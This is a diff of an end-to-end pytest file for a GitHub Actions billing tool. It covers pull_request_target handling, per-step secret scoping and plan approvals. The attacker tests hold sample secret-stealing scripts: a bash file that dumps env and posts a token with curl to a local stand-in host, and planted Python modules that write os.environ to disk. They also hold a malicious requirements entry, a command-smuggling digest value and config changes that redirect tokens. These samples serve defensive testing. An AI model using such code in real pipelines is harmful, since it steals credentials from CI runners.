@@ -2,20 +2,37 @@
 
 from __future__ import annotations
 
+import re
+from pathlib import Path
+
 import pytest
 
-from chargeplan import __version__
+from chargeplan.core.approval import write_key
 from chargeplan.journal import open_journal
+from chargeplan.planfile.approvals import write_new_key
 from chargeplan.sandbox.faults import Fault
 from tests.e2e.house import BATCH, INTEGRATION, OAK
 from tests.pipelines.codehost import BOT
-from tests.pipelines.machines import read_yaml
 
+CHECK = "chargeplan-check.yaml"
 PULL = "chargeplan-pull-request.yaml"
 BILLING = "chargeplan-billing.yaml"
+APPLY = "chargeplan-apply.yaml"
 RECONCILE = "chargeplan-reconcile.yaml"
-OURS = {"pull_request": {"number": 7, "head": {"repo": {"full_name": "acme/billing"}}}}
-FORK = {"pull_request": {"number": 7, "head": {"repo": {"full_name": "somebody/billing"}}}}
+OURS = {
+    "pull_request": {"number": 7, "user": {"login": "pat"}, "head": {"repo": {"full_name": "acme/billing"}}}
+}
+FORK = {
+    "pull_request": {"number": 7, "user": {"login": "eve"}, "head": {"repo": {"full_name": "eve/billing"}}}
+}
+BOTS = {
+    "pull_request": {
+        "number": 7,
+        "user": {"login": "dependabot[bot]"},
+        "head": {"repo": {"full_name": "acme/billing"}},
+    }
+}
+TARGET = "pull_request_target"
 LAST = "12 to post ($300.00)"
 
 
@@ -27,8 +44,8 @@ def results(jobs):
 
 
 def test_a_pull_request_is_answered_with_the_money(project):
-    jobs = project.github().run(PULL, "pull_request", OURS)
-    assert results(jobs) == {"check": "success", "plan": "success"}
+    jobs = project.github().run(PULL, TARGET, OURS)
+    assert results(jobs) == {"plan": "success"}
     (comment,) = project.host.by(BOT)
     assert comment.startswith("<!-- chargeplan:plan:production -->\n")
     assert LAST in comment
@@ -38,9 +55,9 @@ def test_a_pull_request_is_answered_with_the_money(project):
 
 def test_the_same_comment_is_updated(project):
     hub = project.github()
-    hub.run(PULL, "pull_request", OURS)
+    hub.run(PULL, TARGET, OURS)
     project.edit("plans/oak-street.yaml", "25.00", "30.00")
-    hub.run(PULL, "pull_request", OURS)
+    hub.run(PULL, TARGET, OURS)
     (comment,) = project.host.by(BOT)
     assert "12 to post ($360.00)" in comment
 
@@ -55,7 +72,7 @@ def test_only_our_own_comment_is_updated_wherever_it_stands(project):
         project.host.add(f"remark {number}", "pat")
     ours = project.host.add(f"{marker}\nan older plan", BOT)
     before = len(project.host.comments)
-    jobs = hub.run(PULL, "pull_request", OURS)
+    jobs = hub.run(PULL, TARGET, OURS)
     assert jobs["plan"].result == "success"
     assert len(project.host.comments) == before
     assert LAST in ours["body"]
@@ -63,15 +80,18 @@ def test_only_our_own_comment_is_updated_wherever_it_stands(project):
     assert sum(each.startswith("GET") for each in project.host.requests) == 3
 
 
-def test_a_fork_gets_the_check_and_no_secret(project):
-    jobs = project.github().run(PULL, "pull_request", FORK)
-    assert results(jobs) == {"check": "success", "plan": "skipped"}
-    assert jobs["check"].given("PROPEXO_TOKEN") == jobs["check"].given("CHARGEPLAN_JOURNAL") == set()
+@pytest.mark.parametrize("payload", [FORK, BOTS], ids=["fork", "Dependabot"])
+def test_a_stranger_gets_the_check_and_no_secret(project, payload):
+    hub = project.github()
+    check = hub.run(CHECK, "pull_request", payload)["check"]
+    assert check.result == "success"
+    assert check.given("PROPEXO_TOKEN") == check.given("CHARGEPLAN_JOURNAL") == set()
+    assert results(hub.run(PULL, TARGET, payload)) == {"plan": "skipped"}
     assert project.host.requests == []
 
 
 def test_each_secret_is_in_the_step_that_needs_it_alone(project):
-    plan = project.github().run(PULL, "pull_request", OURS)["plan"]
+    plan = project.github().run(PULL, TARGET, OURS)["plan"]
     assert {each.name for each in plan.steps} == {"Install chargeplan", "Plan", "Comment", "Verdict"}
     assert plan.given("PROPEXO_TOKEN") == plan.given("CHARGEPLAN_JOURNAL") == {"Plan"}
     assert plan.given("CHARGEPLAN_COMMENT_TOKEN") == {"Comment"}
@@ -81,8 +101,8 @@ def test_each_secret_is_in_the_step_that_needs_it_alone(project):
 
 def test_a_mistake_fails_the_check(project):
     project.edit("plans/oak-street.yaml", "amount:", "amuont:")
-    jobs = project.github().run(PULL, "pull_request", OURS)
-    assert results(jobs) == {"check": "failure", "plan": "skipped"}
+    jobs = project.github().run(CHECK, "pull_request", OURS)
+    assert results(jobs) == {"check": "failure"}
     assert "plans/oak-street.yaml:8" in jobs["check"].log
 
 
@@ -90,15 +110,15 @@ def test_a_failing_test_of_the_plans_fails_the_check(project):
     tests = project.folder / "plans" / "tests"
     (tests / "amenity.yaml").write_text(PLAN_TEST)
     hub = project.github()
-    assert results(hub.run(PULL, "pull_request", OURS)) == {"check": "success", "plan": "success"}
+    assert results(hub.run(CHECK, "pull_request", OURS)) == {"check": "success"}
     project.edit("plans/oak-street.yaml", "25.00", "26.00")
-    assert results(hub.run(PULL, "pull_request", OURS)) == {"check": "failure", "plan": "skipped"}
+    assert results(hub.run(CHECK, "pull_request", OURS)) == {"check": "failure"}
 
 
 def test_an_unknown_charge_code_is_shown_then_fails(project):
     project.edit("plans/oak-street.yaml", "Amenity Fee", "Amenety Fee")
-    jobs = project.github().run(PULL, "pull_request", OURS)
-    assert results(jobs) == {"check": "success", "plan": "failure"}
+    jobs = project.github().run(PULL, TARGET, OURS)
+    assert results(jobs) == {"plan": "failure"}
     assert jobs["plan"].code == 1
     (comment,) = project.host.by(BOT)
     assert "Amenety Fee" in comment
@@ -106,21 +126,21 @@ def test_an_unknown_charge_code_is_shown_then_fails(project):
 
 def test_where_no_plan_could_be_made_the_comment_stops_showing_the_old_one(project):
     hub = project.github()
-    hub.run(PULL, "pull_request", OURS)
+    hub.run(PULL, TARGET, OURS)
     hub.secrets["PROPEXO_TOKEN"] = ""
-    jobs = hub.run(PULL, "pull_request", OURS)
+    jobs = hub.run(PULL, TARGET, OURS)
     assert jobs["plan"].result == "failure"
     (comment,) = project.host.by(BOT)
     assert LAST not in comment
     assert "nothing can be applied" in comment
-    assert "https://github.example/acme/billing/actions/runs/42" in comment
+    assert "https://github.example/acme/billing/actions/runs/2" in comment
 
 
 def test_a_token_that_may_not_comment_says_what_it_needs(project):
     project.host.refuses = 403
-    plan = project.github().run(PULL, "pull_request", OURS)["plan"]
+    plan = project.github().run(PULL, TARGET, OURS)["plan"]
     assert plan.result == "failure"
-    assert "::error title=chargeplan::The token may not read comments here (HTTP 403)" in plan.log
+    assert "::error title=chargeplan::The token may not read this (HTTP 403)" in plan.log
     assert "pull-requests: write" in plan.log
 
 
@@ -147,7 +167,7 @@ def test_the_monthly_run_posts_the_plan_that_was_shown(project):
 def test_running_the_apply_job_again_sends_nothing_twice(project):
     hub = project.github()
     jobs = hub.run(BILLING, "schedule")
-    job = read_yaml(hub.repository / ".github" / "workflows" / BILLING)["jobs"]["apply"]
+    job = hub.workflow(BILLING, "schedule")["jobs"]["apply"]
     again = hub.job("apply", job, "schedule", before={"plan": jobs["plan"]})
     assert again.result == "success"
     assert "nothing (exit code 0)" in again.summary
@@ -156,13 +176,14 @@ def test_running_the_apply_job_again_sends_nothing_twice(project):
 
 def test_another_digest_posts_nothing(project):
     jobs = run_between(project, lambda hub, plan: plan.outputs.update(digest="sha256:" + "0" * 64))
-    assert (jobs["apply"].result, jobs["apply"].code) == ("failure", 5)
+    assert (jobs["apply"].result, jobs["apply"].code) == ("failure", 1)
+    assert "No run has kept a plan with the digest" in jobs["apply"].log
     assert project.posted() == []
 
 
 def test_an_altered_plan_file_posts_nothing(project):
     def alter(hub, plan):
-        path = hub.artifacts["chargeplan-plan"]
+        path = project.host.artifacts[0].file
         path.write_text(path.read_text().replace("2500", "9900"))
 
     jobs = run_between(project, alter)
@@ -171,7 +192,11 @@ def test_an_altered_plan_file_posts_nothing(project):
 
 
 def test_plans_edited_after_the_approval_post_nothing(project):
-    jobs = run_between(project, lambda hub, plan: project.edit("plans/oak-street.yaml", "25.00", "30.00"))
+    def merge(hub, plan):
+        project.edit("plans/oak-street.yaml", "25.00", "30.00")
+        hub.workflow(BILLING, "push")
+
+    jobs = run_between(project, merge)
     assert (jobs["apply"].result, jobs["apply"].code) == ("failure", 5)
     assert "Run the workflow again" in jobs["apply"].log
     assert project.posted() == []
@@ -234,18 +259,22 @@ def test_a_lock_of_another_run_posts_nothing(project):
     assert project.posted() == []
 
 
-def test_what_pip_is_told_is_this_version(project):
+def test_pip_is_told_what_main_says_and_not_what_a_pull_request_says(project):
+    project.edit(".github/actions/chargeplan/requirements.txt", "chargeplan[", "evil[")
     hub = project.github()
-    hub.run(PULL, "pull_request", FORK)
-    told = (hub.folder / "runner-1" / "pip.txt").read_text()
-    assert told.split() == [
-        "-m",
-        "pip",
-        "install",
-        "--disable-pip-version-check",
-        "--quiet",
-        f"chargeplan[postgres,approvals]=={__version__}",
-    ]
+    assert hub.run(PULL, TARGET, OURS)["plan"].result == "success"
+    (told,) = hub.folder.glob("*/pip.txt")
+    assert told.read_text().split()[-2] == "-r"
+    requirements = told.read_text().split()[-1]
+    assert "evil" not in Path(requirements).read_text()
+
+
+def test_where_nothing_is_known_to_install_the_job_says_what_to_write(project, written):
+    name = ".github/actions/chargeplan/requirements.txt"
+    (project.folder / name).write_text((written / "environments" / name).read_text())
+    job = project.github().run(RECONCILE, "schedule")["reconcile"]
+    assert job.result == "failure"
+    assert "says nowhere where chargeplan comes from" in job.log
 
 
 @pytest.mark.parametrize("journal", ["", ".chargeplan/production.db"], ids=["not set", "a file"])
@@ -261,7 +290,7 @@ def test_a_journal_that_would_go_with_the_runner_is_refused(project, journal):
 def run_between(project, meddle):
     """The monthly run, with something that happens between the plan and the approval."""
     hub = project.github()
-    document = read_yaml(hub.repository / ".github" / "workflows" / BILLING)
+    document = hub.workflow(BILLING, "schedule")
     plan = hub.job("plan", document["jobs"]["plan"], "schedule")
     assert plan.result == "success"
     meddle(hub, plan)
@@ -269,6 +298,133 @@ def run_between(project, meddle):
         "plan": plan,
         "apply": hub.job("apply", document["jobs"]["apply"], "schedule", before={"plan": plan}),
     }
+
+
+# --- every day -----------------------------------------------------------------------------------------------------
+
+
+def test_each_day_says_in_one_line_what_is_to_do(project):
+    notice = [
+        line
+        for line in project.github().run(BILLING, "schedule")["plan"].log.splitlines()
+        if "::notice" in line
+    ]
+    assert len(notice) == 1
+    assert (
+        "production, 2027-08-02: 12 to post ($300.00), 0 missed, 0 held, 0 open, 0 drifted, 0 removed."
+        in notice[0]
+    )
+    assert "Somebody has to apply it: sha256:" in notice[0]
+
+
+def test_options_of_the_plan_are_given_by_hand(project):
+    jobs = project.github().run(BILLING, "workflow_dispatch", **{"plan-options": "--property nowhere"})
+    assert jobs["plan"].result == "failure"
+    assert "No plan covers a property `nowhere`" in jobs["plan"].log
+
+
+# --- by hand, with the digest ----------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("approval", ["dispatch"])
+def test_a_person_posts_the_plan_whose_digest_the_issue_shows(project, approval):
+    hub = project.github()
+    assert results(hub.run(BILLING, "schedule")) == {"plan": "success"}
+    assert project.posted() == []
+    (issue,) = project.host.issues
+    assert LAST in issue["body"]
+    digest = re.search(r"sha256:[0-9a-f]{64}", issue["body"])[0]
+    jobs = hub.run(APPLY, "workflow_dispatch", digest=f" {digest} ")
+    assert results(jobs) == {"apply": "success"}
+    assert len(project.posted()) == 12
+    hub.run(BILLING, "schedule")
+    assert issue["state"] == "closed"
+    assert len(project.host.issues) == 1
+
+
+@pytest.mark.parametrize("approval", ["dispatch"])
+@pytest.mark.parametrize(
+    ("digest", "said"),
+    [("", "There is no digest"), ("sha256:beef; touch x", "or it is none"), ("sha256:" + "0" * 64, "No run has kept a plan")],
+)  # fmt: skip
+def test_a_digest_that_is_no_plans_posts_nothing(project, approval, digest, said):
+    hub = project.github()
+    hub.run(BILLING, "schedule")
+    jobs = hub.run(APPLY, "workflow_dispatch", digest=digest)
+    assert (jobs["apply"].result, jobs["apply"].code) == ("failure", 1)
+    assert said in jobs["apply"].log
+    assert project.posted() == []
+
+
+@pytest.mark.parametrize("approval", ["signed"])
+def test_who_signs_needs_no_rights_in_the_repository(project, approval, tmp_path):
+    """Two people's lines in one field, as a browser joins them."""
+    keys = {name: tmp_path / f"{name}.key" for name in ("ada", "ben")}
+    people = [f"{{name: {name}, key: '{write_key(write_new_key(path, ''))}'}}" for name, path in keys.items()]
+    project.edit(
+        "chargeplan.yaml", "guards:", f"approvals: {{required: 2, approvers: [{', '.join(people)}]}}\nguards:"
+    )
+    hub = project.github()
+    plan = hub.run(BILLING, "schedule")["plan"]
+    file, signed = project.host.artifacts[0].file, tmp_path / "signed"
+    for key in keys.values():
+        done = project.run("approve", file, "--key", key, "--out", signed, "--yes")
+        assert done.returncode == 0, done.stderr
+    digest, lines = plan.outputs["digest"], signed.read_text().splitlines()
+    refused = hub.run(APPLY, "workflow_dispatch", digest=digest, approvals=lines[0])["apply"]
+    assert (refused.result, refused.code, project.posted()) == ("failure", 6, [])
+    assert results(hub.run(APPLY, "workflow_dispatch", digest=digest, approvals="".join(lines))) == {
+        "apply": "success"
+    }
+    assert len(project.posted()) == 12
+
+
+# --- an attacker ---------------------------------------------------------------------------------------------------
+
+THIEF = '#!/bin/bash\nenv > "$(dirname "${BASH_SOURCE[0]}")/stolen"\ncurl -d @- http://127.0.0.1:9 <<<"$PROPEXO_TOKEN"\n'
+SPY = "import os\nopen(os.path.join(os.path.dirname(__file__), 'stolen'), 'w').write(str(os.environ))\n"
+CODE = {
+    ".github/actions/chargeplan/scripts/plan.sh": THIEF, ".github/actions/chargeplan/scripts/common.sh": THIEF,
+    "secrets.py": SPY, "json.py": SPY, "pip.py": SPY, "chargeplan/__init__.py": SPY, "sitecustomize.py": SPY,
+    ".github/actions/chargeplan/requirements.txt": "evil @ file:///tmp/evil\n",
+}  # fmt: skip
+
+
+def test_nothing_of_a_pull_request_is_run(project):
+    for name, text in CODE.items():
+        (project.folder / name).parent.mkdir(parents=True, exist_ok=True)
+        (project.folder / name).write_text(text)
+    action = project.folder / ".github/actions/chargeplan/action.yml"
+    action.write_text(action.read_text().replace('run: exec bash "', 'run: env; exec bash "'))
+    hub = project.github()
+    plan = hub.run(PULL, TARGET, OURS)["plan"]
+    assert plan.result == "success"
+    assert list(hub.folder.rglob("stolen")) == []
+    for secret in project.secrets.values():
+        assert secret not in plan.log + plan.summary
+
+
+@pytest.mark.parametrize(
+    ("old", "new"),
+    [
+        ("http://127.0.0.1:{port}", "http://127.0.0.1:9"),
+        ("token_env: PROPEXO_TOKEN", "token_env: CHARGEPLAN_JOURNAL"),
+        ("token_env: PROPEXO_TOKEN", "token_env: AWS_SECRET_ACCESS_KEY"),
+        ("journal_env: CHARGEPLAN_JOURNAL", "journal_env: PROPEXO_TOKEN"),
+        ("journal_env: CHARGEPLAN_JOURNAL", "journal: postgresql://billing@127.0.0.1:9/x"),
+    ],
+    ids=["host", "journal as token", "another secret as token", "token as journal", "journal elsewhere"],
+)  # fmt: skip
+def test_a_configuration_that_sends_secrets_elsewhere_ends_before_anything_is_sent(project, old, new):
+    project.edit("chargeplan.yaml", old.format(port=project.url.rsplit(":", 1)[1]), new)
+    before = len(project.state.requests())
+    plan = project.github().run(PULL, TARGET, OURS)["plan"]
+    assert plan.result == "failure"
+    assert "Nothing was read or sent" in plan.log.replace("\n", " ")
+    assert len(project.state.requests()) == before
+    (comment,) = project.host.by(BOT)
+    for secret in project.secrets.values():
+        assert secret not in plan.log + plan.summary + comment
 
 
 PLAN_TEST = """\
